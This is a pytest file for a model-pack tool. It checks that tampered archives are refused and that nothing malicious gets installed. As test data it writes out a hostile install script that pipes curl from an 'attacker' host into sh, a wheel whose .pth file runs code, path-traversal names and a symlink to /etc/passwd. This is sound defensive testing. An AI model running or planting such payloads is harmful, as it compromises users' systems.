"""Packs from an untrusted source: the exact member set hashed in PACK.json, extra or missing members refused, an
install that installs only the listed wheels, size and member-count limits, PACK.json's bundle confined, nothing
left behind by a killed unpack, and signed packs checked against a trusted key (issue 15.5)."""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import json
import os
import signal
import subprocess
import sys
import tarfile
import zipfile

import pytest
from click.testing import CliRunner

import edgec.pack
from edgec.cli import main
from edgec.errors import BundleError, SignatureError
from edgec.pack import MAX_MEMBERS, pack, unpack
from edgec.runtime import Model
from edgec.signing import generate_keypair, load_signing_key


def invoke(*args):
    return CliRunner().invoke(main, [str(a) for a in args])


def make_wheel(folder, name: str, version: str, files: dict[str, str]) -> str:
    """A small valid wheel (pure Python) with ``files``; returns its file name."""
    wheel = f"{name}-{version}-py3-none-any.whl"
    info = f"{name}-{version}.dist-info"
    contents = dict(files)
    contents[f"{info}/METADATA"] = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"
    contents[f"{info}/WHEEL"] = "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    record = []
    for path, text in contents.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
        record.append(f"{path},sha256={digest},{len(text.encode())}")
    record.append(f"{info}/RECORD,,")
    contents[f"{info}/RECORD"] = "\n".join(record) + "\n"
    with zipfile.ZipFile(folder / wheel, "w") as archive:
        for path, text in contents.items():
            archive.writestr(path, text)
    return wheel


@pytest.fixture
def fake_wheels(monkeypatch):
    """pack --wheels with two tiny stand-in wheels instead of the runtime's (no network, seconds not minutes)."""

    def download(folder, python, platform, signed=False, extra="runtime"):
        folder.mkdir(parents=True, exist_ok=True)
        make_wheel(folder, "goodpkg", "1.0", {"goodpkg/__init__.py": "VALUE = 1\n"})
        make_wheel(folder, "goodhelper", "2.0", {"goodhelper.py": "HELP = 2\n"})
        return sorted(p.name for p in folder.glob("*.whl"))

    monkeypatch.setattr(edgec.pack, "download_wheels", download)


@pytest.fixture(scope="module")
def key(tmp_path_factory):
    private, public = generate_keypair(tmp_path_factory.mktemp("keys") / "release")
    return load_signing_key(private), public


def rewrite(archive, out, change):
    """Copy a tar, letting ``change(members)`` edit the list of (name, bytes) (an attacker's repack)."""
    with tarfile.open(archive) as source:
        members = [(m.name, source.extractfile(m).read()) for m in source.getmembers()]
    members = change(members)
    with tarfile.open(out, "w") as target:
        for name, data in members:
            entry = tarfile.TarInfo(name)
            entry.size = len(data)
            target.addfile(entry, io.BytesIO(data))
    return out


def with_recomputed_pack_info(members):
    """The attacker also rewrites PACK.json's hashes for every member they touched."""
    data = dict(members)
    info = json.loads(data["PACK.json"])
    info["files"] = {
        name: {"size": len(content), "sha256": hashlib.sha256(content).hexdigest()}
        for name, content in data.items()
        if name not in ("PACK.json", "PACK.sig")
    }
    info["wheels"] = sorted(name[len("wheels/") :] for name in data if name.startswith("wheels/"))
    data["PACK.json"] = json.dumps(info).encode()
    return list(data.items())


def assert_refused(archive, output, *needles, error=BundleError):
    with pytest.raises(error) as raised:
        unpack(archive, output)
    for needle in needles:
        assert needle in str(raised.value), raised.value
    assert not output.exists() and not list(output.parent.glob(f".{output.name}.tmp-*"))
    result = invoke("unpack", archive, "-o", output)
    assert result.exit_code == 2 and len(result.stderr.strip().splitlines()) == 1, result.output


def test_pack_json_lists_every_member(tiny_bundle, tmp_path, fake_wheels):
    archive = pack(tiny_bundle, tmp_path / "p.tar", wheels=True)
    with tarfile.open(archive) as tar:
        names = {m.name for m in tar.getmembers()}
        info = json.loads(tar.extractfile("PACK.json").read())
    assert set(info["files"]) == names - {"PACK.json"}
    assert {"install.sh", "requirements.txt"} <= names
    requirements = tar_text(archive, "requirements.txt")
    assert all(line.startswith("wheels/") and "--hash=sha256:" in line for line in requirements.splitlines())
    assert "--require-hashes -r requirements.txt" in tar_text(archive, "install.sh")


def tar_text(archive, name) -> str:
    with tarfile.open(archive) as tar:
        return tar.extractfile(name).read().decode()


def test_an_extra_member_is_refused(tiny_bundle, tmp_path):
    good = pack(tiny_bundle, tmp_path / "good.tar")
    bad = rewrite(good, tmp_path / "bad.tar", lambda m: [*m, ("tiny.cpu.edgec/notes.txt", b"extra")])
    assert_refused(bad, tmp_path / "out", "'tiny.cpu.edgec/notes.txt' is in the archive but not in PACK.json")


def test_a_missing_member_is_refused(tiny_bundle, tmp_path):
    good = pack(tiny_bundle, tmp_path / "good.tar")
    bad = rewrite(good, tmp_path / "bad.tar", lambda m: [(n, d) for n, d in m if not n.endswith("tokenizer.json")])
    assert_refused(bad, tmp_path / "out", "lacks 'tiny.cpu.edgec/tokenizer.json'")


def test_a_replaced_install_script_is_refused(tiny_bundle, tmp_path, fake_wheels):
    good = pack(tiny_bundle, tmp_path / "good.tar", wheels=True)
    size = len(tar_text(good, "install.sh"))
    evil = b"#!/bin/sh\ncurl http://attacker | sh\n"
    for script, needle in ((evil.ljust(size, b"#"), "differs from PACK.json"), (evil, "PACK.json says")):
        bad = rewrite(
            good, tmp_path / "bad.tar", lambda m, s=script: [(n, s if n == "install.sh" else d) for n, d in m]
        )
        assert_refused(bad, tmp_path / "out", "install.sh", needle)


def test_an_added_wheel_is_refused(tiny_bundle, tmp_path, fake_wheels):
    good = pack(tiny_bundle, tmp_path / "good.tar", wheels=True)
    make_wheel(tmp_path, "edgec", "99.0", {"evil.pth": "import os\n"})
    wheel = (tmp_path / "edgec-99.0-py3-none-any.whl").read_bytes()
    bad = rewrite(good, tmp_path / "bad.tar", lambda m: [*m, ("wheels/edgec-99.0-py3-none-any.whl", wheel)])
    assert_refused(bad, tmp_path / "out", "'wheels/edgec-99.0-py3-none-any.whl' is in the archive but not in")


def test_install_runs_no_code_from_an_added_wheel(tiny_bundle, tmp_path, fake_wheels, key):
    """The code-execution-on-install case: an attacker adds edgec-99.0 with a .pth file that runs code whenever
    Python starts, and rewrites PACK.json to list it. Unsigned, unpack cannot tell (the attacker recomputed the
    hashes), but install.sh installs only what requirements.txt pins: the wheel is never installed, its code never
    runs. Signed, unpack --trust refuses the pack outright."""
    marker = tmp_path / "code-ran"
    good = pack(tiny_bundle, tmp_path / "good.tar", wheels=True)
    pth = f"import pathlib; pathlib.Path({str(marker)!r}).write_text('ran')\n"
    make_wheel(tmp_path, "edgec", "99.0", {"edgec_evil.pth": pth, "edgec/__init__.py": "EVIL = True\n"})
    wheel = (tmp_path / "edgec-99.0-py3-none-any.whl").read_bytes()

    def add_wheel(members):
        return with_recomputed_pack_info([*members, ("wheels/edgec-99.0-py3-none-any.whl", wheel)])

    bad = rewrite(good, tmp_path / "bad.tar", add_wheel)
    site = tmp_path / "site"
    unpack(bad, site)
    install = subprocess.run(
        ["sh", str(site / "install.sh")],
        capture_output=True,
        text=True,
        env={"PATH": "/usr/bin:/bin", "PYTHON": sys.executable},
    )
    assert install.returncode == 0, install.stdout + install.stderr
    python = site / ".venv" / "bin" / "python"
    listing = subprocess.run([str(python), "-m", "pip", "list", "--format=json"], capture_output=True, text=True)
    installed = {package["name"].lower() for package in json.loads(listing.stdout)}
    assert {"goodpkg", "goodhelper"} <= installed and "edgec" not in installed
    assert not marker.exists(), "the added wheel's code ran"
    # signed: the same rewrite is refused before anything is written
    signed = pack(tiny_bundle, tmp_path / "signed.tar", wheels=True, sign=key[0])
    bad_signed = rewrite(signed, tmp_path / "bad-signed.tar", add_wheel)
    with pytest.raises(SignatureError, match=r"PACK\.json .* changed after signing"):
        unpack(bad_signed, tmp_path / "out", trust=key[1])
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    "bundle",
    ["../escaped", "/tmp/escaped", "a/b", "wheels", "..", "", "PACK.json", 7, None],
)
def test_pack_json_bundle_is_confined(tiny_bundle, tmp_path, bundle):
    good = pack(tiny_bundle, tmp_path / "good.tar")

    def point_elsewhere(members):
        data = dict(members)
        info = json.loads(data["PACK.json"])
        info["bundle"] = bundle
        data["PACK.json"] = json.dumps(info).encode()
        return list(data.items())

    bad = rewrite(good, tmp_path / "bad.tar", point_elsewhere)
    assert_refused(bad, tmp_path / "out", "PACK.json")
    assert not (tmp_path / "escaped").exists()


@pytest.mark.parametrize(
    "document",
    [b"[]", b'"PACK"', b"{}", b'{"pack_format": 1}', b"not json", b'{"bundle": "x"}', b"\xff"],
    ids=["list", "string", "empty", "partial", "garbage", "old-format", "not-utf8"],
)
def test_a_malformed_pack_json_is_one_line(tiny_bundle, tmp_path, document):
    """Issue 15.8: a PACK.json that is a list (or anything else that is not a pack's) is one line, no traceback."""
    good = pack(tiny_bundle, tmp_path / "good.tar")
    bad = rewrite(good, tmp_path / "bad.tar", lambda m: [(n, document if n == "PACK.json" else d) for n, d in m])
    assert_refused(bad, tmp_path / "out", "PACK.json")


def test_a_compressed_archive_is_refused_unread(tiny_bundle, tmp_path):
    """A 1.4 MB gzip once became 1 GiB on disk: packs are plain tar, whose size bounds what they unpack to."""
    bomb = tmp_path / "bomb.tar.gz"
    with gzip.open(bomb, "wb") as stream:
        stream.write(b"\0" * (16 * 2**20))
    assert_refused(bomb, tmp_path / "out", "gzip-compressed")


def test_a_member_claiming_more_than_the_archive_holds_is_refused(tmp_path):
    archive = tmp_path / "claims.tar"
    entry = tarfile.TarInfo("tiny.cpu.edgec/model.onnx.data")
    entry.size = 2**40
    header = entry.tobuf(format=tarfile.PAX_FORMAT)
    archive.write_bytes(header + b"\0" * 4096)
    assert_refused(archive, tmp_path / "out", "claims more content than the archive holds")


def test_too_many_members_are_refused(tmp_path):
    archive = tmp_path / "many.tar"
    with tarfile.open(archive, "w") as tar:
        for index in range(MAX_MEMBERS + 1):
            tar.addfile(tarfile.TarInfo(f"f{index}"), io.BytesIO(b""))
    assert_refused(archive, tmp_path / "out", "more than 10,000 members")


@pytest.mark.parametrize("kind", [tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.FIFOTYPE])
def test_links_and_devices_are_refused(tiny_bundle, tmp_path, kind):
    good = pack(tiny_bundle, tmp_path / "good.tar")
    bad = tmp_path / "bad.tar"
    with tarfile.open(good) as source, tarfile.open(bad, "w") as target:
        for member in source.getmembers():
            target.addfile(member, source.extractfile(member))
        link = tarfile.TarInfo("tiny.cpu.edgec/link")
        link.type, link.linkname = kind, "/etc/passwd"
        target.addfile(link)
    assert_refused(bad, tmp_path / "out", "only plain files belong in a pack")


def test_a_member_twice_is_refused(tiny_bundle, tmp_path):
    good = pack(tiny_bundle, tmp_path / "good.tar")
    bad = rewrite(good, tmp_path / "bad.tar", lambda m: [*m, m[-1]])
    assert_refused(bad, tmp_path / "out", "appears twice")


KILL_DURING_UNPACK = """
import os, signal, sys
import edgec.pack
extract = edgec.pack._extract
def extract_then_die(*args):
    extract(*args)
    os.kill(os.getpid(), signal.SIGKILL)
edgec.pack._extract = extract_then_die
edgec.pack.unpack(sys.argv[1], sys.argv[2])
"""


def test_a_killed_unpack_leaves_only_a_temporary_folder_that_the_next_run_removes(tiny_bundle, tmp_path):
    archive = pack(tiny_bundle, tmp_path / "p.tar")
    out = tmp_path / "out"
    done = subprocess.run([sys.executable, "-c", KILL_DURING_UNPACK, str(archive), str(out)])
    assert done.returncode == -signal.SIGKILL
    assert not out.exists() and len(list(tmp_path.glob(".out.tmp-*"))) == 1
    bundle = unpack(archive, out)
    assert Model.load(bundle, check_hashes=True)
    assert not list(tmp_path.glob(".out.*"))  # the stale folder and the lock are gone


def test_a_signed_pack_unpacks_with_its_key_and_its_bundle_loads_with_it(tiny_bundle, tmp_path, key):
    signing_key, public = key
    archive = tmp_path / "signed.tar"
    result = invoke("pack", tiny_bundle, "-o", archive, "--sign", signing_key.path)
    assert result.exit_code == 0 and "signed by key" in result.output, result.output
    result = invoke("unpack", archive, "-o", tmp_path / "site", "--trust", public)
    assert result.exit_code == 0 and "signed by a trusted key" in result.output, result.output
    # the bundle was unsigned: the pack signed it with the same key, so it loads with trust on the site
    Model.load(tmp_path / "site" / "tiny.cpu.edgec", trust=public)
    other = generate_keypair(tmp_path / "other")[1]
    with pytest.raises(SignatureError, match="not trusted here"):
        unpack(archive, tmp_path / "elsewhere", trust=other)
    unsigned = pack(tiny_bundle, tmp_path / "unsigned.tar")
    with pytest.raises(SignatureError, match="is not signed"):
        unpack(unsigned, tmp_path / "elsewhere", trust=public)


@pytest.mark.parametrize("target", ["tiny.cpu.edgec/model.onnx.data", "PACK.sig"])
def test_a_signed_pack_with_one_changed_byte_names_the_member(tiny_bundle, tmp_path, key, target):
    signed = pack(tiny_bundle, tmp_path / "signed.tar", sign=key[0])

    def flip(members):
        out = []
        for name, data in members:
            if name == target:
                middle = len(data) // 2 if name != "PACK.sig" else data.index(b'"signature": "') + 20
                data = data[:middle] + bytes([data[middle] ^ 0x01]) + data[middle + 1 :]
            out.append((name, data))
        return out

    bad = rewrite(signed, tmp_path / "bad.tar", flip)
    if target != "PACK.sig":  # without a trust key the signature is not read, but every hash is
        assert_refused(bad, tmp_path / "out", target, error=BundleError)
    with pytest.raises(SignatureError, match=target.replace(".", r"\.")):
        unpack(bad, tmp_path / "out", trust=key[1])
    assert not (tmp_path / "out").exists()


def test_a_pack_from_before_hashes_is_refused(tiny_bundle, tmp_path):
    good = pack(tiny_bundle, tmp_path / "good.tar")
    old = json.dumps({"bundle": "tiny.cpu.edgec", "edgec_version": "0.1.0", "wheels": []}).encode()
    bad = rewrite(good, tmp_path / "bad.tar", lambda m: [(n, old if n == "PACK.json" else d) for n, d in m])
    assert_refused(bad, tmp_path / "out", "older edgec")


def test_unpack_never_writes_outside_its_folder(tiny_bundle, tmp_path):
    """Hostile member names never create files beside the output (checked at the end of every refusal above too)."""
    good = pack(tiny_bundle, tmp_path / "good.tar")
    for name in ("../escaped.txt", "/tmp/escaped-edgec.txt", "tiny.cpu.edgec/../../escaped.txt"):
        bad = rewrite(good, tmp_path / "bad.tar", lambda m, name=name: [*m, (name, b"x")])
        with pytest.raises(BundleError):
            unpack(bad, tmp_path / "out")
    assert sorted(os.listdir(tmp_path)) == ["bad.tar", "good.tar"]
    assert not os.path.exists("/tmp/escaped-edgec.txt")


def _pack_info_edited(change):
    """A repack whose PACK.json ``change(info)`` edits (the attacker keeps every member's hash right)."""

    def edit(members):
        data = dict(members)
        info = json.loads(data["PACK.json"])
        change(info)
        data["PACK.json"] = json.dumps(info).encode()
        return list(data.items())

    return edit


def _any_entry(info) -> dict:
    return dict(next(iter(info["files"].values())))


@pytest.mark.parametrize(
    "change,needle",
    [
        (lambda info: info["wheels"].append("../evil-1.0-py3-none-any.whl"), "which is not a wheel's file name"),
        (lambda info: info["wheels"].append("evil.zip"), "which is not a wheel's file name"),
        (lambda info: info["files"].update({"../evil.txt": _any_entry(info)}), "has an unsafe path '../evil.txt'"),
        (lambda info: info["files"].update({"other/x.txt": _any_entry(info)}), "belongs to no part of a pack"),
        (lambda info: info["files"].pop("tiny.cpu.edgec/manifest.json"), "has no tiny.cpu.edgec/manifest.json"),
        (lambda info: info["wheels"].append("ghost-1.0-py3-none-any.whl"), "PACK.json.wheels and the wheels in"),
        (lambda info: info["files"].update({"install.sh": _any_entry(info)}), "come with wheels, and only with them"),
    ],
    ids=["wheel-path", "wheel-name", "unsafe-file", "stray-file", "no-manifest", "ghost-wheel", "install-no-wheels"],
)
def test_a_pack_json_that_cannot_be_a_pack_s_is_refused(tiny_bundle, tmp_path, change, needle):
    """PACK.json's member set must be a pack's: wheels by plain wheel names, every file inside a part of the pack,
    the bundle's manifest listed, wheels and their installer together."""
    good = pack(tiny_bundle, tmp_path / "good.tar")
    bad = rewrite(good, tmp_path / "bad.tar", _pack_info_edited(change))
    assert_refused(bad, tmp_path / "out", "PACK.json", needle)


def test_a_truncated_archive_is_one_line(tiny_bundle, tmp_path):
    """A pack cut off (a broken download) is refused as such, not as one whose later members are missing (tarfile
    stops without a word at a header it cannot read); so are bytes after its end. Nothing is written."""
    good = pack(tiny_bundle, tmp_path / "good.tar")
    with tarfile.open(good) as tar:
        second = tar.getmembers()[1].offset  # where the second member's header starts
    cut = tmp_path / "cut.tar"
    cut.write_bytes(good.read_bytes()[: second + 100])
    assert_refused(cut, tmp_path / "out", "does not end as a whole tar archive does")
    whole = good.read_bytes()
    for name, data in (("headless.tar", whole[:second]), ("trailing.tar", whole + b"x" * 512)):
        (tmp_path / name).write_bytes(data)  # cut right before a header; bytes after the end
        assert_refused(tmp_path / name, tmp_path / "out", "does not end as a whole tar archive does")


def test_folder_members_are_skipped_and_a_climbing_one_refused(tiny_bundle, tmp_path):
    """Another tar tool's repack lists the bundle's folder as a member of its own: unpacked as before. A folder
    member whose name climbs out of the output is refused like a file's."""
    good = pack(tiny_bundle, tmp_path / "good.tar")

    def with_folder(name: str):
        def add(source_path, target_path):
            with tarfile.open(source_path) as source, tarfile.open(target_path, "w") as target:
                folder = tarfile.TarInfo(name)
                folder.type = tarfile.DIRTYPE
                target.addfile(folder)
                for member in source.getmembers():
                    target.addfile(member, source.extractfile(member))
            return target_path

        return add

    repacked = with_folder("tiny.cpu.edgec/")(good, tmp_path / "folders.tar")
    bundle = unpack(repacked, tmp_path / "site")
    assert Model.load(bundle, check_hashes=True)
    climbing = with_folder("../escaped/")(good, tmp_path / "climbing.tar")
    assert_refused(climbing, tmp_path / "out", "refusing archive member '../escaped'")
    assert not (tmp_path / "escaped").exists()
